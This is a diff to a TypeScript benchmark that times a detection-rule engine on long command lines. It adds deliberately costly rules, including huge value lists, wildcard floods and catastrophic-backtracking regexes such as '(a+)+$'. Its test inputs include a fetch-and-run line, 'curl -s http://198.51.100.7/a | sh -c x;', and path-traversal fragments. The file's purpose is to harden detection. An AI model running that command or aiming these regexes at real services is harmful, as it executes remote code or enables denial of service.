@@ -25,7 +25,7 @@ console.log('rules  engine         events/s  candidates that match  first event 
 for (const count of options.rules.split(',').map(Number))
   for (const interpreted of [false, true]) throughput(count, interpreted);
 loading(3_000);
-worstRule();
+worstRules();
 
 function throughput(count: number, interpreted: boolean): void {
   const { rules } = loadRules(salted(own, count), { interpreted });
@@ -51,39 +51,80 @@ function loading(count: number): void {
 }
 
 /** Each rule alone, asked about a command line that is made of the rule's own words. */
-function worstRule(): void {
-  const costs = own.map((file) => {
-    const { rules } = loadRules([file]);
-    const source = rules.rules.length > 0 ? logsourceOf(file) : {};
-    const event = (text: string) =>
-      jsonEvent({ Image: text, CommandLine: text, ParentImage: text, TargetFilename: text, message: text }, [source]);
-    const micros = commandLines(file.text).map((text) => {
-      const asked = event(text);
-      rules.match(asked);
-      const passes = 20;
-      return Math.min(
-        ...[1, 2, 3].map(
-          () =>
-            (milliseconds(() => {
-              for (let pass = 0; pass < passes; pass += 1) rules.match(asked);
-            }) *
-              1_000) /
-            passes,
-        ),
-      );
-    });
-    return { path: file.path, micros: Math.max(...micros) };
-  });
-  console.log(`\nthe most expensive rules, ${longCommandLength} characters in five fields, us an event:`);
-  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 8))
+function worstRules(): void {
+  const rules = [...own.map((file) => ({ file, texts: commandLines(file.text) })), ...hostile()];
+  const costs = rules.map(({ file, texts }) => ({
+    path: file.path,
+    micros: Math.max(...texts.map((text) => costOf(file, text))),
+  }));
+  console.log(`\nthe most expensive rules on a command line of ${longCommandLength} characters, us an event:`);
+  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 20))
     console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
+}
+
+function costOf(file: RuleFile, text: string): number {
+  const { rules } = loadRules([file]);
+  if (rules.rules.length === 0) throw new Error(`${file.path} is refused`);
+  const event = jsonEvent({ Image: '/bin/sh', CommandLine: text }, [logsourceOf(file)]);
+  const passes = 20;
+  const run = () => {
+    for (let pass = 0; pass < passes; pass += 1) rules.match(event);
+  };
+  run();
+  return (Math.min(...[1, 2, 3].map(() => milliseconds(run))) * 1_000) / passes;
 }
 
 function commandLines(rule: string): string[] {
   const words = [...rule.matchAll(/- '?([^'\n]{2,60})'?$/gm)].map(([, word = '']) => word).join(' ');
-  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map((text) =>
-    text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength),
-  );
+  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map(long);
+}
+
+function long(text: string): string {
+  return text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength);
+}
+
+/** What somebody would write, and then send, who wants the detection to be busy. */
+function hostile(): { file: RuleFile; texts: string[] }[] {
+  const words = Array.from({ length: 5_000 }, (_, index) => `w${index.toString(36)} `);
+  const rule = (name: string, detection: object, ...texts: string[]) => ({
+    file: {
+      path: `hostile: ${name}`,
+      text: stringify({ title: name, logsource: { product: 'linux' }, detection: { s: detection, condition: 's' } }),
+    },
+    texts: texts.map(long),
+  });
+  return [
+    rule('5,000 values, all there', { 'CommandLine|contains|all': words.slice(0, 1_600) }, words.join('')),
+    rule('5,000 values, none there', { 'CommandLine|contains': words }, 'x '),
+    rule('5,000 whole values', { CommandLine: words }, 'w1 '),
+    rule(
+      'a in a in a',
+      { 'CommandLine|contains': Array.from({ length: 1_000 }, (_, index) => `${'a'.repeat(index + 1)}b`) },
+      'a',
+    ),
+    rule('cased', { 'CommandLine|contains|cased': words }, 'x '),
+    rule('stars', { CommandLine: `${'a*'.repeat(60)}b` }, 'a'),
+    rule(
+      '40 patterns',
+      { CommandLine: Array.from({ length: 40 }, (_, index) => `*a*b${index}*c*`) },
+      'a b1 b2 b3 b4 b5 b6 b7 b8 b9 ',
+      `${words.join('')}ab`,
+    ),
+    rule('question marks', { 'CommandLine|contains': 'a?a?a?a?a?a?a?a?b' }, 'a', 'aaaaaaaaaaaaaaaaac'),
+    rule('a page of question marks', { 'CommandLine|contains': `${'a?'.repeat(60)}b` }, 'a', `${'a'.repeat(300)}b`),
+    ...[
+      '(a+)+$',
+      '[a-z]+[0-9]+[a-z]+',
+      '(x+x+)+y',
+      'a.{50}b',
+      '(a|b)*a(a|b){12}c',
+      '.*a.*b.*c.*d',
+      '(?i)mi.*ner',
+      '(.){200,}',
+    ].map((source) =>
+      rule(`re ${source}`, { 'CommandLine|re': source }, 'a', 'x', 'ab', 'aab c1 miner ', 'abbabaaabbbabac'),
+    ),
+  ];
 }
 
 function milliseconds(run: () => unknown): number {
